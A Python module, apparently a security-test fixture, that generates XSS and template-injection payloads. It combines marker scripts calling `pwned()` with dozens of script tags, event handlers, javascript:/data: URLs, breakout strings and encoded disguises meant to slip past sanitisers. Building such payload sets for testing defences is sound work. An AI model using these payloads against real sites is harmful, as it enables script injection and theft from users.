"""Hostile texts: ways to make a browser run a script, times ways to write the script and to hide it."""

from __future__ import annotations

import html
import itertools
from urllib.parse import quote

# Each says so to the test by calling `pwned`.
SCRIPTS = (
    "pwned()",
    "top.pwned()",
    "window['pw'+'ned']()",
    "pwned``",
    "(0,eval)('pwned()')",
    "setTimeout('pwned()')",
    "[].at.constructor('pwned()')()",
    "import('data:text/javascript,pwned()')",
)
ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT\n>",
    "<script\x0c>{}</script>",
    "<script/x>{}//",
    "<<script>{}//<</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</noscript><script>{}</script>",
    "</template><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set href=#x attributeName=href to=javascript:{} />",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={}>",
    "<img src=x onerror={}>",
    "<img src=x\tonerror\x0c=\n{}>",
    "<img/src=x/onerror={}>",
    "<image src=x onerror={}>",
    "<img srcset=,x onerror={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<object data=javascript:{}>",
    "<object data='data:text/html,<script>parent.{}</script>'>",
    "<embed src=javascript:{}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe onload={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<a href=# autofocus onfocus={}>",
    "<b tabindex=1 autofocus onfocusin={}>",
    "<details open ontoggle={}>",
    "<dialog open onbeforetoggle={}>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={}>",
    "<link rel=stylesheet href=data:text/css,x onload={}>",
    "<style onload={}></style>",
    "<form action=javascript:{}><button autofocus>",
    "<button formaction=javascript:{}>",
    "<isindex type=image src=1 onerror={}>",
    "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<portal onload={}>",
    "<b onpointerrawupdate={} onmouseover={}>",
    "<b hx-on:load={} hx-on::load={} hx-on--load={}>",
    "<b hx-get=data:text/html,x hx-trigger='load[{}]'>",
    "<b hx-vals='js:{{x: {}}}' hx-get=/ hx-trigger=load>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "`><img src=x onerror={}>",
    '" autofocus onfocus={} x="',
    "' autofocus onfocus={} x='",
    " autofocus onfocus={} ",
    '\x00"><svg onload={}>',
)
ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " \t\njavascript:{}",
    "\x01\x1fjavascript:{}",
    "java\tscr\nipt:{}",
    "javascript\n:{}",
    "javascript://shop.example/%0a{}",
    "javascript:/*https://shop.example*/{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "data:text/html,<script>opener.{}</script>",
    "data:image/svg+xml,<svg onload={} xmlns='http://www.w3.org/2000/svg'/>",
    "vbscript:{}",
    "view-source:javascript:{}",
    "blob:https://shop.example/{}",
    'https://shop.example/"onmouseover={} x="',
    "https://shop.example/'onclick={} x='",
    "https://shop.example/><img src=x onerror={}>",
    'mailto:a@b.cz"onfocus={} autofocus x="',
    'tel:1" autofocus onfocus={} x="',
)
TEMPLATES = (
    "{{{{ {} }}}}",
    "${{{}}}",
    "{{% print {} %}}",
    "#{{{}}}",
    "<%= {} %>",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{{{ ''.__class__.__mro__ }}}}{}",
    "%(message)s %s %d {}",
)


def disguises(text: str) -> tuple[str, ...]:
    """The same text as something between the shop and the page may unwrap it once too often."""
    wide = text.replace("<", "\uff1c").replace(">", "\uff1e")
    return (html.escape(text), quote(text), text.replace("<", "\\u003c").replace(">", "\\x3e"), wide)


def payloads(count: int) -> list[str]:
    """So many different hostile texts, the plain ones first, every kind among the first hundred."""
    kinds = [*ELEMENTS, *ADDRESSES, *TEMPLATES]
    plain = [kind.format(*[script] * 3) for script in SCRIPTS for kind in kinds]
    hidden = [disguise for text in plain[: len(kinds)] for disguise in disguises(text)]
    mixed = itertools.chain(plain[: 4 * len(kinds)], hidden, plain[4 * len(kinds) :])
    return list(dict.fromkeys(mixed))[:count]
